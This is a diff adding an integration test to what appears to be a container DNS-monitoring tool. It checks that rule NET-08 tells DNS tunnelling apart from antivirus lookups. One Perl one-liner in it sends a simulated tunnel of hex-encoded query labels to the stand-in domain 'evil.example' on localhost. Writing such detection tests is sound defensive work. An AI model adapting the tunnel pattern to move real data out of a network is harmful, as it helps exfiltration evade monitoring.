@@ -12,6 +12,8 @@ import type { SweptContainer } from '../../collector/sweeps.ts';
 import type { Observation } from '../../shared/observation.ts';
 import { noTelemetry } from '../../shared/telemetry/telemetry.ts';
 import { workloadOf } from '../../shared/workload.ts';
+import { createPlay, findings } from '../support/analyzer/play.ts';
+import { shippedFile } from '../support/analyzer/shipped.ts';
 import { swept } from '../support/collector/sweeps.ts';
 import { perlMounts } from '../support/engine-client.ts';
 import { eventually } from '../support/eventually.ts';
@@ -137,6 +139,37 @@ describe('names that real containers ask for', () => {
     expect(
       seen.filter(({ container, dns }) => dns !== undefined && container?.name === 'noisy').length,
     ).toBeLessThanOrEqual(600);
+  }, 120_000);
+});
+
+describe('data that a container sends as names', () => {
+  /** Perl that asks for a hundred and twenty names in some seconds; `name` is an expression of it. */
+  const asks = (
+    container: string,
+    name: string,
+  ) => `docker run -d --name ${container} $N ${perlMounts} $B perl -MSocket -e '
+    socket(S, PF_INET, SOCK_DGRAM, 0); $to = sockaddr_in(5353, inet_aton("127.0.0.1")); sleep 2;
+    for $i (1 .. 120) { @l = ${name};
+      send(S, pack("n6", $i, 256, 1, 0, 0, 0).join("", map { pack("C/a*", $_) } @l).pack("Cnn", 0, 16, 1), 0, $to);
+      select(undef, undef, undef, 0.05) } sleep 3600'`;
+  const hundredOf = (name: string) =>
+    eventually(() => {
+      const found = seen.filter(({ container, dns }) => dns !== undefined && container?.name === name);
+      if (found.length < 100) throw new Error(`${found.length} questions of ${name}`);
+      return found;
+    });
+
+  it('is NET-08; as many names of an antivirus are not', async () => {
+    const rules = await shippedFile('network/net-08-dns-tunnel.yml');
+    await lab.sh(asks('lookups', '(sprintf("%032x", $i), "avqs", "mcafee", "com")'));
+    await lab.sh(asks('tunnel', '(sprintf("%032x", $i), sprintf("%020x", $i), "t", "evil", "example")'));
+    await learnContainers();
+    const questions = [...(await hundredOf('lookups')), ...(await hundredOf('tunnel'))];
+    const found = findings(createPlay({ rules }).batch(questions.sort((a, b) => a.at - b.at)));
+    expect(found.filter(({ kind }) => kind === 'sequence')).toMatchObject([
+      { severity: 'high', rule: { catalogue: ['NET-08'] }, container: { name: 'tunnel' } },
+    ]);
+    expect(questions[0]?.dns?.question).toMatchObject({ type: 'TXT', domain: 'mcafee.com', length: 49 });
   }, 120_000);
 });
 
